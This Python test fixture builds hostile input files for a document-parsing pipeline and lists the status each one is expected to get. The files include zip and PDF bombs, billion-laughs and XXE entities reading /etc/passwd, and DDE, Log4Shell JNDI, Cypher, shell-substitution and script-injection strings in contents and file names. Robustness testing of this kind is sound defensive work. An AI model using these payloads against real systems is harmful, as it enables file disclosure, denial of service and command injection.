"""Makes hostile files: every entry of ``FILES`` is a name, its bytes, and the statuses that are right for it."""

import io
import zipfile
import zlib
from collections.abc import Callable

import docx
import fpdf

from aegis_pipeline.records import DocumentStatus as S

ENGLISH = (
    "The Manchester Baby was the first electronic stored-program computer. It was built at the University of "
    "Manchester by Frederic Williams, Tom Kilburn and Geoff Tootill, and it ran its first program on 21 June 1948."
)
GERMAN = (
    "Die Zuse Z3 war der erste funktionsfähige Digitalrechner weltweit und wurde 1941 von Konrad Zuse "
    "in Zusammenarbeit mit Helmut Schreyer in Berlin gebaut. Sie wurde über Lochstreifen gesteuert und später zerstört."
)
FRENCH = (
    "La machine de Bull était un ordinateur français conçu à Paris, où la société fut fondée. Elle fut livrée "
    "à plusieurs clients européens et connut un très grand succès auprès des administrations."
)
SPANISH = (
    "La empresa fue fundada en Madrid por Juan Pérez después de la guerra, y muy pronto se convirtió en la más grande "
    "del país. Los obreros de la fábrica española construían automóviles y camiones."
)
JAPANESE = "東京は日本の首都であり、世界で最も人口の多い都市の一つです。多くの会社や大学がここにあります。" * 3
CHINESE = "北京是中华人民共和国的首都，也是全国的政治和文化中心，人口超过两千万，历史非常悠久。" * 3

FOREIGN = frozenset({S.UNSUPPORTED_LANGUAGE})
PARSED = frozenset({S.PARSED})
MALFORMED = frozenset({S.MALFORMED})
EMPTY = frozenset({S.EMPTY})
UNSUPPORTED = frozenset({S.UNSUPPORTED_FORMAT})
TOO_LARGE = frozenset({S.TOO_LARGE})
ENCRYPTED = frozenset({S.ENCRYPTED})


def pdf(text: str = ENGLISH, password: str | None = None) -> bytes:
    made = fpdf.FPDF()
    if password is not None:
        made.set_encryption(owner_password="owner", user_password=password)
    made.add_page()
    made.set_font("helvetica", size=12)
    made.multi_cell(0, 8, text)
    return bytes(made.output())


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF of hand-written objects, without a cross-reference table (readers rebuild it)."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in enumerate(objects, start=1))
    return b"%PDF-1.4\n" + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def stream_pdf(content: bytes) -> bytes:
    packed = zlib.compress(content, 9)
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<<>>>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed),
    )


def cyclic_pdf() -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>",
        b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 1>>",
    )


def self_drawing_pdf() -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>",
        b"<</Length 5>>stream\n/X Do\nendstream",
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>/Length 5>>"
        b"stream\n/X Do\nendstream",
    )


def docx_file(text: str = ENGLISH) -> bytes:
    made, buffer = docx.Document(), io.BytesIO()
    made.add_paragraph(text)
    made.save(buffer)
    return buffer.getvalue()


def docx_with(parts: dict[str, bytes]) -> bytes:
    """A valid document with some parts replaced or added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_file())) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as made:
        for name in source.namelist():
            if name not in parts:
                made.writestr(name, source.read(name))
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def body(content: bytes, before: bytes = b"") -> dict[str, bytes]:
    return {"word/document.xml": before + b"<w:document " + _W + b"><w:body>" + content + b"</w:body></w:document>"}


def paragraph(text: bytes) -> bytes:
    return b"<w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p>"


def billion_laughs() -> bytes:
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    return b"<!DOCTYPE w:document [" + entities + b"]>"


def archive(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return buffer.getvalue()


def tampered(data: bytes) -> bytes:
    """A document whose first compressed bytes are overwritten."""
    at = data.index(b"PK\x03\x04") + 60
    return data[:at] + b"\xff" * 200 + data[at + 200 :]


def flagged_encrypted(data: bytes) -> bytes:
    """A document whose central directory says that its first member is encrypted."""
    at = data.index(b"PK\x01\x02") + 8
    return data[:at] + bytes([data[at] | 1]) + data[at + 1 :]


def page(content: str) -> bytes:
    return f"<!doctype html><html><head><title>T</title></head><body>{content}</body></html>".encode()


_e = ENGLISH.encode()
_OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

FILES: dict[str, tuple[Callable[[], bytes] | bytes, frozenset[S]]] = {
    # encodings
    "utf8-bom.txt": (b"\xef\xbb\xbf" + _e, PARSED),
    "utf16-bom.txt": (ENGLISH.encode("utf-16"), PARSED),
    "utf16-be-bom.txt": (b"\xfe\xff" + ENGLISH.encode("utf-16-be"), PARSED),
    "utf16-le-no-bom.txt": (ENGLISH.encode("utf-16-le"), PARSED),
    "utf16-be-no-bom.txt": (ENGLISH.encode("utf-16-be"), PARSED),
    "utf16-odd-length.txt": (ENGLISH.encode("utf-16") + b"x", frozenset({S.UNDECODABLE})),
    "utf32-bom.txt": (ENGLISH.encode("utf-32"), PARSED),
    "latin1-german.txt": (GERMAN.encode("latin-1"), FOREIGN),
    "cp1252-quotes.txt": ((ENGLISH + " “It’s naïve,” he said in the café.").encode("cp1252"), PARSED),
    "shift-jis.txt": (JAPANESE.encode("shift_jis"), FOREIGN),
    "euc-jp.txt": (JAPANESE.encode("euc_jp"), FOREIGN),
    "gb18030.txt": (CHINESE.encode("gb18030"), FOREIGN),
    "french.txt": (FRENCH.encode(), FOREIGN),
    "spanish.txt": (SPANISH.encode(), FOREIGN),
    "german.html": (page(f"<p>{GERMAN}</p>"), FOREIGN),
    "meta-latin1.html": (page(f"<meta charset=iso-8859-1><p>{GERMAN}</p>").decode().encode("latin-1"), FOREIGN),
    "meta-unknown.html": (page(f"<meta charset=no-such-charset><p>{ENGLISH}</p>"), PARSED),
    "mixed-encodings.txt": (_e + GERMAN.encode("latin-1") + JAPANESE.encode(), frozenset({S.UNDECODABLE, S.PARSED})),
    "overlong-utf8.txt": (b"\xc0\xaf\xe0\x80\xaf" * 40, frozenset({S.UNDECODABLE, S.MALFORMED, *FOREIGN})),
    "encoded-surrogates.txt": (_e + b"\xed\xa0\x80", frozenset({S.UNDECODABLE, S.PARSED})),
    # empty
    "empty.txt": (b"", EMPTY),
    "empty.pdf": (b"", EMPTY),
    "empty.docx": (b"", EMPTY),
    "blank.md": (b" \r\n\t \n", EMPTY),
    "only-bom.txt": (b"\xef\xbb\xbf", EMPTY),
    "only-controls.txt": (b"\x01\x02\x03\x04", MALFORMED),
    "only-nbsp.html": (b"<p>&nbsp;&nbsp;</p>", EMPTY),
    "only-script.html": (b"<html><script>alert(1)</script></html>", EMPTY),
    "only-comment.html": (b"<!-- nothing -->", EMPTY),
    "no-text.pdf": (lambda: stream_pdf(b""), EMPTY),
    "no-text.docx": (lambda: docx_file(""), EMPTY),
    # wrong extensions
    "pdf-in-text.txt": (pdf, PARSED),
    "html-in-text.txt": (page(f"<p>{ENGLISH}</p><script>x()</script>"), PARSED),
    "html-in-pdf.pdf": (page(f"<p>{ENGLISH}</p>"), PARSED),
    "docx-in-pdf.pdf": (docx_file, PARSED),
    "text-in-pdf.pdf": (_e, MALFORMED),
    "text-in-docx.docx": (_e, MALFORMED),
    "zip-in-pdf.pdf": (lambda: archive({"a.txt": _e}), UNSUPPORTED),
    "xlsx-in-docx.docx": (lambda: archive({"xl/workbook.xml": b"<a/>"}), UNSUPPORTED),
    "png.txt": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), UNSUPPORTED),
    "gzip.md": (b"\x1f\x8b" + bytes(range(256)), UNSUPPORTED),
    "elf.html": (b"\x7fELF" + bytes(range(256)), UNSUPPORTED),
    "old-word.docx": (_OLE2 + bytes(2000), UNSUPPORTED),
    "rtf.txt": (b"{\\rtf1 hello}", UNSUPPORTED),
    "nul.txt": (_e + b"\0" + _e, MALFORMED),
    "binary.txt": (bytes(range(256)) * 40, MALFORMED),
    "noise.md": (bytes(16 + (n * n * 7919 >> 3) % 240 for n in range(5000)), frozenset({S.MALFORMED, S.UNDECODABLE})),
    "program.exe": (b"MZ", UNSUPPORTED),
    "no-extension": (_e, UNSUPPORTED),
    "double.txt.exe": (_e, UNSUPPORTED),
    "UPPER.TXT": (_e, PARSED),
    # truncated, damaged, encrypted
    "truncated.pdf": (lambda: pdf()[:300], MALFORMED),
    "half.pdf": (lambda: pdf()[: len(pdf()) // 2], frozenset({S.MALFORMED, S.EMPTY, S.PARSED})),
    "header-only.pdf": (b"%PDF-1.7\n", MALFORMED),
    "garbage.pdf": (b"%PDF-1.7\n" + bytes(range(256)) * 20, MALFORMED),
    "truncated.docx": (lambda: docx_file()[:2000], MALFORMED),
    "tampered.docx": (lambda: tampered(docx_file()), MALFORMED),
    "no-xml.docx": (lambda: docx_with({"word/document.xml": b"this is no XML"}), MALFORMED),
    "no-body.docx": (lambda: docx_with({"word/document.xml": b"<a/>"}), frozenset({S.MALFORMED, S.EMPTY})),
    "lonely.docx": (lambda: archive({"word/document.xml": b"<a/>"}), frozenset({S.MALFORMED, S.EMPTY})),
    "encrypted.pdf": (lambda: pdf(password="secret"), ENCRYPTED),
    "owner-password.pdf": (lambda: pdf(password=""), PARSED),
    "encrypted.docx": (_OLE2 + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600), ENCRYPTED),
    "encrypted-member.docx": (lambda: flagged_encrypted(docx_file()), ENCRYPTED),
    # exploding, cyclic, endless
    "zeros.txt": (bytes(2_000_000), MALFORMED),
    "cyclic.pdf": (cyclic_pdf, MALFORMED),
    "self-drawing.pdf": (self_drawing_pdf, EMPTY),
    "claims-pages.pdf": (
        lambda: raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 2000000000>>"),
        frozenset({S.MALFORMED, S.TOO_LARGE}),
    ),
    "bomb.pdf": (lambda: stream_pdf(bytes(100_000_000)), frozenset({S.EMPTY, S.OUT_OF_MEMORY, S.TIMED_OUT})),
    "bomb.docx": (lambda: docx_with({"word/media/x.bin": bytes(250_000_000)}), TOO_LARGE),
    "laughs.docx": (lambda: docx_with(body(paragraph(b"&a9;"), billion_laughs())), MALFORMED),
    "external-entity.docx": (
        lambda: docx_with(body(paragraph(b"&x;"), b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
        MALFORMED,
    ),
    "nested.docx": (lambda: docx_with(body(b"<w:p>" * 5000 + b"</w:p>" * 5000)), frozenset({S.MALFORMED, S.EMPTY})),
    "nested.html": (page("<div>" * 100_000 + ENGLISH), MALFORMED),
    "nested-1000.html": (page("<div>" * 1000 + ENGLISH), PARSED),
    "unclosed.html": (b"<p><b><i><table><tr><td>" + _e, PARSED),
    "laughs.xhtml": (b'<!DOCTYPE html [<!ENTITY a "x">]><html><body><p>&a;' + _e + b"</p></body></html>", PARSED),
    "external.html": (
        page(f'<img src="file:///etc/passwd"><iframe src="http://192.0.2.1/"></iframe>{ENGLISH}'),
        PARSED,
    ),
    "nested.md": (b"> " * 20_000 + _e, MALFORMED),
    "nested-50.md": (b"> " * 50 + _e, PARSED),
    "brackets.md": (b"[" * 20_000 + _e, PARSED),
    "long-line.txt": (b"word " * 1_000_000 + _e, frozenset({S.PARSED, S.TOO_LARGE})),
    "no-spaces.txt": (b"x" * 4_000_000, frozenset({S.TOO_LARGE})),
    "ten-megabytes.txt": (_e * 40_000, TOO_LARGE),
    "references.txt": (b"&" + b"amp;" * 100_000 + _e, PARSED),
    "dots.txt": (b"." * 2_000_000, frozenset({S.EMPTY})),
    "newlines.txt": (b"a\n\n" * 100_000, PARSED),
    # texts that look like something else
    "formula.txt": (b"=cmd|'/C calc'!A0 " + _e, PARSED),
    "script.html": (page(f"<script>fetch('//evil')</script><p onclick='x()'>{ENGLISH}</p>"), PARSED),
    "cypher.txt": (b"'}) DETACH DELETE n // " + _e, PARSED),
    "shell.txt": (b"#!/bin/sh\ntouch x; $(touch y) `touch z`\n" + _e, PARSED),
    "eicar-like.txt": (b"{{7*7}} ${jndi:ldap://192.0.2.1/a} %n%n%s " + _e, PARSED),
    "escapes.txt": (b"\x1b]0;title\x07\x1b[2J" + _e, PARSED),
    # names
    "-rf.txt": (_e, PARSED),
    "--help.md": (_e, PARSED),
    "new\nline.txt": (_e, PARSED),
    "tab\tand\x1b[31mred.txt": (_e, PARSED),
    "quote'\"`.txt": (_e, PARSED),
    "$(touch x);.txt": (_e, PARSED),
    "=1+1.txt": (_e, PARSED),
    "'}) DETACH DELETE n.txt": (_e, PARSED),
    "<SEP>.txt": (_e, PARSED),
    "emoji 🎉 é.txt": (_e, PARSED),
    "100%41 %FF.txt": (_e, PARSED),
    "a" * 251 + ".txt": (_e, PARSED),
    "..txt": (_e, frozenset({S.REFUSED})),
    ".hidden.txt": (_e, frozenset({S.REFUSED})),
    ".DS_Store": (b"\0\0\0\1Bud1", frozenset({S.REFUSED})),
}


def content(name: str) -> bytes:
    made, _ = FILES[name]
    return made if isinstance(made, bytes) else made()
